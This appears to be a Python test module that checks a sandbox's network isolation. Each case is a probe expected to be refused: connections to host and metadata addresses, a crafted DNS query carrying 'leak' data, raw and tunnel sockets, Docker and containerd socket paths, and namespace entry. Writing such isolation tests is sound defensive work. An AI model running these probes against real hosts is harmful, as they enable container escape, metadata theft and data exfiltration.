"""Attacks on the network: out to the world, to servers of the host, to sockets in files and in the abstract space."""

import socket
from typing import Any

from .case import Attack, Cell, refused

CONNECT = """
import socket
def connect(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as channel:
        channel.settimeout(0.5)
        channel.connect(address)
        try:
            channel.sendall(b'ping')
        except BrokenPipeError:  # it has answered already
            pass
        return channel.recv(100)
"""


def connects_in(host: Any) -> str:
    """Whether the host reaches the server that the attack left listening."""
    for address in (("127.0.0.1", host.listen_port), ("::1", host.listen_port)):
        try:
            socket.create_connection(address, 0.5).close()
        except OSError:
            continue
        return f"the host reached the attack's server at {address}"
    with socket.socket(socket.AF_UNIX) as channel:
        try:
            channel.connect("\0" + host.listen_name)
        except OSError:
            return ""
    return "the host reached the attack's abstract socket"


ATTACKS = [
    Attack(
        "tcp_loopback",
        "connect to a server on the host's loopback and own addresses",
        (
            Cell(
                CONNECT
                + """
for number, address in enumerate([*host['addresses'], '0.0.0.0', 'localhost', '10.0.2.2', '169.254.169.254']):
    attempt(f'v4-{number}', connect, socket.AF_INET, socket.SOCK_STREAM, (address, host['tcp']))
attempt('v6', connect, socket.AF_INET6, socket.SOCK_STREAM, ('::1', host['tcp']))
attempt('mapped', connect, socket.AF_INET6, socket.SOCK_STREAM, ('::ffff:127.0.0.1', host['tcp']))
attempt('mptcp', connect, socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', host['tcp']), 262)
""",
                stdout=r"(v4-\d+ refused \w+\n)+" + refused("v6 mapped mptcp"),
            ),
        ),
    ),
    Attack(
        "tcp_world",
        "connect to addresses of the Internet",
        (
            Cell(
                CONNECT
                + """
for address in ('1.1.1.1', '8.8.8.8', '192.0.2.1'):
    attempt(address, connect, socket.AF_INET, socket.SOCK_STREAM, (address, 443))
attempt('v6', connect, socket.AF_INET6, socket.SOCK_STREAM, ('2606:4700:4700::1111', 443))
""",
                stdout=refused("1.1.1.1 8.8.8.8 192.0.2.1 v6"),
            ),
        ),
    ),
    Attack(
        "model_server",
        "ask the model server on the host's loopback over HTTP, past any proxy",
        (
            Cell(
                """
import urllib.request
for number, name in enumerate(['127.0.0.1', 'localhost', '[::1]']):
    url = f'http://{name}:{host["model"]}/v1/models'
    attempt(f'get-{number}', lambda: urllib.request.urlopen(url, timeout=0.5).read())
attempt('curl', subprocess.run, ['curl', '-sf', '-m', '1', f'http://127.0.0.1:{host["model"]}/v1/models'], check=True)
""",
                stdout=refused("get-0 get-1 get-2 curl"),
            ),
        ),
    ),
    Attack(
        "udp",
        "send datagrams to the host, to a network, to everyone",
        (
            Cell(
                """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
    channel.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:  # its own loopback takes it; the host's must not
        channel.sendto(b'ping', ('127.0.0.1', host['udp']))
    except OSError:
        pass
    for address in ('8.8.8.8', '255.255.255.255', '224.0.0.1', *host['addresses'][1:2]):
        attempt('send', channel.sendto, b'ping', (address, host['udp']))
""",
                stdout=r"(send refused \w+\n){3,4}",
            ),
        ),
    ),
    Attack(
        "dns",
        "resolve names, and smuggle data out in a query",
        (
            Cell(
                """
import socket
query = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4leak\\7example\\3org\\0\\0\\1\\0\\1'
def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(0.3)
        channel.sendto(query, (server, 53))
        return channel.recv(512)
attempt('name', socket.getaddrinfo, 'example.org', 80)
for server in ('8.8.8.8', '127.0.0.53', '127.0.0.1'):
    attempt(server, ask, server)
""",
                stdout=refused("name 8.8.8.8 127.0.0.53 127.0.0.1"),
            ),
        ),
    ),
    Attack(
        "raw_sockets",
        "raw, packet and ping sockets, a tunnel device, a bridge",
        (
            Cell(
                """
import fcntl, socket
attempt('icmp', socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
attempt('raw', socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
attempt('raw6', socket.socket, socket.AF_INET6, socket.SOCK_RAW, 58)
attempt('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08' + bytes(7), ('8.8.8.8', 0)))
attempt('packet', socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0x300)
attempt('tun', open, '/dev/net/tun', 'r+b', 0)
plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt('bridge', fcntl.ioctl, plain, 0x89A0, b'br0' + bytes(13))
attempt('down', fcntl.ioctl, plain, 0x8914, b'lo' + bytes(30))
attempt('route', fcntl.ioctl, plain, 0x890B, bytes(120))
""",
                stdout=refused("icmp raw raw6 ping packet tun bridge down route"),
            ),
        ),
    ),
    Attack(
        "socket_families",
        "open a socket of every family but unix, IPv4 and IPv6 (netlink, vsock, alg, bluetooth, ...)",
        (
            Cell(
                """
import socket
for family in range(3, 64):
    if family != socket.AF_INET6:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind)
            except OSError:
                continue
            print('DONE', family, kind)
attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1024)))
""",
                stdout=refused("vsock"),
            ),
        ),
    ),
    Attack(
        "unix_path",
        "connect to a socket file of the host, and to the sockets of its daemons",
        (
            Cell(
                CONNECT
                + """
paths = [host['unix'], '/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock',
         '/run/dbus/system_bus_socket', '/run/systemd/private', '/run/user/0/bus', '/tmp/.X11-unix/X0']
paths += [f'/proc/{pid}/root{host["unix"]}' for pid in ('self', 1, os.getppid(), *host['pids'])]
for number, path in enumerate(paths):
    attempt(f'path-{number}', connect, socket.AF_UNIX, socket.SOCK_STREAM, path)
""",
                stdout=r"(path-\d+ refused \w+\n){13,}",
            ),
        ),
    ),
    Attack(
        "unix_abstract",
        "connect to a socket of the host in the abstract name space",
        (
            Cell(
                CONNECT
                + """
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    attempt(f'kind-{int(kind)}', connect, socket.AF_UNIX, kind, '\\0' + host['abstract'])
for line in open('/proc/net/unix'):
    if '@' in line and '@' + host['marker'] not in line:
        print('seen', line)
""",
                stdout=refused("kind-1 kind-2"),
            ),
        ),
    ),
    Attack(
        "network_of_the_host",
        "see the host's interfaces, connections and routes, and enter its network namespace",
        (
            Cell(
                """
import socket
try:
    print('interfaces', sorted(name for _, name in socket.if_nameindex()))
except OSError:  # they are asked for by netlink, which is refused
    print('interfaces', ['lo'])
for table in ('tcp', 'tcp6', 'udp', 'route', 'arp'):
    try:
        lines = open(f'/proc/net/{table}').read().splitlines()[1:]
    except OSError:
        lines = []
    print(table, len(lines), [line for line in lines if f':{host["tcp"]:04X}' in line])
for pid in (1, os.getppid(), *host['pids']):
    attempt('enter', lambda: syscall('setns', os.open(f'/proc/{pid}/ns/net', os.O_RDONLY), 0))
""",
                stdout=r"(?s)interfaces \['lo'\]\n((tcp|tcp6|udp|route|arp) 0 \[\]\n)*(enter refused \w+\n)*",
            ),
        ),
    ),
    Attack(
        "listen_for_the_host",
        "listen on all addresses and in the abstract name space, and wait for the host to come",
        (
            Cell(
                """
import socket, threading
servers = [socket.socket(socket.AF_INET), socket.socket(socket.AF_INET6), socket.socket(socket.AF_UNIX)]
servers[1].setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
for server, address in zip(servers, [('0.0.0.0', host['listen']), ('::', host['listen']), '\\0' + host['listen_name']]):
    try:
        server.bind(address)
        server.listen()
        threading.Thread(target=server.accept, daemon=True).start()
    except OSError as error:
        print(error)
""",
            ),
        ),
        check=connects_in,
    ),
]
